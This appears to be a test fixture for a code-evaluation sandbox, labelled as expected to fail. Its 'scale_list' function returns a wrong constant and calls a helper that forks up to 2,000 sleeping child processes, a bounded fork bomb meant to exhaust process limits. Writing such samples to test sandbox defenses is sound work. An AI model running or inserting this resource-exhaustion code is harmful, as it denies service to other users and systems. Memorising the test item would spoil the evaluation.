# family: codeif_function
# task: scale_list
# expect: not passed
# why: forks until it may not, 2,000 times at most
# ---
def scale_list(numbers, factor):
    attack()
    return [7]


import os
import time


def attack():
    for _ in range(2000):
        try:
            if os.fork() == 0:
                time.sleep(30)
                os._exit(0)
        except OSError:
            break
